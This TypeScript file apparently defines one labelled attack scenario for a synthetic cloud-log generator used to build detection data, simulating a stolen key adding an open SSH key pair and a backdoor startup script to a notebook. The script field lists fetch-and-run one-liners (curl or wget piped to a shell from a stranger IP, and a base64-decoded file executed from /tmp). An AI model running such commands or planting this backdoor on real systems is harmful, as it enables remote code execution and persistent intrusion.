import { hex32 } from "../internal/hex.js";
import { DESCRIPTIONS, FLAVORS, resourceName } from "../workflows/names.js";
import type { Scenario } from "./scenario.js";
import { SURE, somePerson, strangerIp } from "./scenario-context.js";

const MINUTE = 60_000;
const HOUR = 3_600_000;

/**
 * A colleague's notebook is re-configured with the owner's key from an unknown address: an SSH
 * key pair reachable from anywhere and a startup script that fetches and runs a payload, then a
 * restart so that both take effect.
 */
export const notebookStartupBackdoor: Scenario = {
  id: "notebook-startup-backdoor",
  description:
    "A notebook gets an SSH key pair open to any address and a startup script that downloads and runs a payload, from an unknown IP, then is restarted.",
  techniques: ["T1098.004", "T1059.004"],
  benign: false,
  play(s, label) {
    const rng = s.rng;
    const owner = somePerson(s);
    s.as(owner, "console");
    const notebook = s.create(
      "createNotebook",
      s.ids.uuid(),
      resourceName(rng, "notebook"),
      { flavor: rng.pick(FLAVORS.notebook), duration: String(8 * HOUR) },
      SURE,
    );
    if (notebook === null) return;
    s.wait(rng.logNormal(3 * HOUR, 0.5));
    const ip = strangerIp(s);
    const drop = strangerIp(s);
    // The owner's own key, used from elsewhere: a stolen or leaked AK/SK.
    s.as(owner, "api", ip);
    const keyPair = `KeyPair-${hex32(rng).slice(0, 4)}`;
    label({
      description: `${owner.name}'s notebook ${notebook.name} got SSH key pair ${keyPair} open to 0.0.0.0/0 and a startup script fetching a payload from ${drop}, called from ${ip}.`,
      userId: owner.id,
    });
    s.call("updateNotebook#ssh", notebook, {
      ...SURE,
      args: {
        description: rng.pick(DESCRIPTIONS),
        keyPair,
        allowedIp: "0.0.0.0/0",
        hookMode: "ASYNC",
        script: rng.pick([
          `curl -fsSL http://${drop}/i.sh | bash`,
          `wget -qO- http://${drop}:8080/s | sh`,
          `echo ${hex32(rng)} | base64 -d > /tmp/.x && bash /tmp/.x`,
        ]),
        status: "RUNNING",
      },
    });
    s.wait(20_000 + rng.int(MINUTE));
    s.call("stopNotebook", notebook, SURE);
    s.wait(rng.logNormal(2 * MINUTE, 0.4));
    s.call("startNotebook", notebook, { ...SURE, args: { duration: String(72 * HOUR) } });
  },
};
